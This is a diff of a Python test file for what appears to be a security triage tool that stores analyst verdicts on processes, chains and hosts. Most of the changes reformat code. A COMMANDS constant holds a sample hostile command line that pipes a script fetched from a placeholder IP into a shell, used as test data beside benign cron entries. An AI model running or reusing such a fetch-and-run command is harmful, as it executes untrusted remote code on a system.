@@ -112,7 +112,9 @@ def test_verdicts_are_the_effective_ones_whatever_their_scope(scored: Workspace)
     labels.set("case", [twice.key], "malicious", scope=Scope(host="WEB01"))
     base = scored.teaching.load_queue("case")
     found = scored.teaching.load_verdicts("case", base)
-    told = {base.corpus.keys[row]: Verdict(value).word for row, value in zip(found.chain.tolist(), found.chain_verdict, strict=True)}
+    told = {
+        base.corpus.keys[row]: Verdict(value).word for row, value in zip(found.chain.tolist(), found.chain_verdict, strict=True)
+    }
     assert told == {row.key: row.verdict for row in scored.queue.page("case", limit=1000) if row.verdict}
     assert twice.key not in told  # on the other host nobody has said anything
     assert list(found.rows) == sorted(found.rows)
@@ -134,6 +136,7 @@ def words(base: BaseQueue, found: Verdicts) -> dict[tuple[str, int], str]:
     }
 
 
+KINDS = ("process", "variant", "host", "chain", "incident", "finding")
 COMMANDS = ("sh -c 'debian-sa1 1 1'", "sh -c 'curl http://203.0.113.9/x | sh'", None)
 
 
@@ -157,7 +160,7 @@ def shells(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
 @given(
     acts=st.lists(
         st.one_of(
-            st.tuples(st.sampled_from(["process", "variant", "host", "chain", "incident", "finding"]), st.integers(0, 60), st.sampled_from(VERDICTS)),
+            st.tuples(st.sampled_from(KINDS), st.integers(0, 60), st.sampled_from(VERDICTS)),
             st.sampled_from(["undo", "redo"]),
         ),
         max_size=8,
@@ -457,7 +460,10 @@ def test_remembered_are_verdicts_of_other_cases_under_the_same_detector(workspac
 def test_what_is_remembered_of_another_case_is_what_its_chains_were_there(workspace: Workspace) -> None:
     """A verdict on a chain is remembered by the shapes of its command lines, one on a process by its own."""
     for case, mark in (("case", "a"), ("near", "b")):
-        events = [samples.event(1, command_line="cron -f"), *(samples.event(n, 1, command_line=COMMANDS[n % 2]) for n in range(5, 25, 5))]
+        events = [
+            samples.event(1, command_line="cron -f"),
+            *(samples.event(n, 1, command_line=COMMANDS[n % 2]) for n in range(5, 25, 5)),
+        ]
         samples.fill(workspace, events, case=case, path=case, sha256=mark * 64)
     model = samples.score(workspace, "case", grouped=True)
     samples.score(workspace, "near", model=model, grouped=True)
